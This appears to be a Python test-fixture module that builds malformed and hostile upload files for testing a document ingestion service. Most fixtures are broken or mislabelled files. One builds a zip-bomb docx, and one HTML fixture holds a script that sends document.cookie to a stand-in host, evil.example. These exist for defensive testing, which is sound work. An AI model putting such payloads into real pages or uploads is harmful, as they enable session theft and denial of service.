"""Bad and hostile uploads, built as bytes: (filename, data) each."""

import io
import zipfile


def text_pdf(text: str = "Travel policy. Trips abroad need the director's approval.") -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    pdf.drawString(72, 720, text)
    pdf.save()
    return buffer.getvalue()


def empty_file() -> tuple[str, bytes]:
    return "empty.md", b""


def encrypted_pdf() -> tuple[str, bytes]:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return "locked.pdf", buffer.getvalue()


def pdf_without_text() -> tuple[str, bytes]:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return "scan.pdf", buffer.getvalue()


def corrupt_pdf() -> tuple[str, bytes]:
    data = text_pdf()
    return "truncated.pdf", data[: len(data) // 3]


def docx_zip_bomb() -> tuple[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b"A" * 300_000_000 + b"</w:document>")
    return "bomb.docx", buffer.getvalue()


def corrupt_docx() -> tuple[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<not-closed")
    return "broken.docx", buffer.getvalue()


def pdf_named_docx() -> tuple[str, bytes]:
    return "report.docx", text_pdf()


def exe_named_txt() -> tuple[str, bytes]:
    return "notes.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(range(256)) * 4


def latin1_text() -> tuple[str, bytes]:
    return "menu.txt", "Café crème brûlée, déjà vu à la carte.".encode("latin-1")


def script_only_html() -> tuple[str, bytes]:
    page = b"<html><head><script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>"
    page += b"<body><script>alert(1)</script><style>body{}</style><iframe src='x'></iframe></body></html>"
    return "page.html", page


def unsupported_extension() -> tuple[str, bytes]:
    return "tool.exe", b"MZ\x90\x00"


ALL = [
    empty_file,
    encrypted_pdf,
    pdf_without_text,
    corrupt_pdf,
    docx_zip_bomb,
    corrupt_docx,
    pdf_named_docx,
    exe_named_txt,
    latin1_text,
    script_only_html,
    unsupported_extension,
]
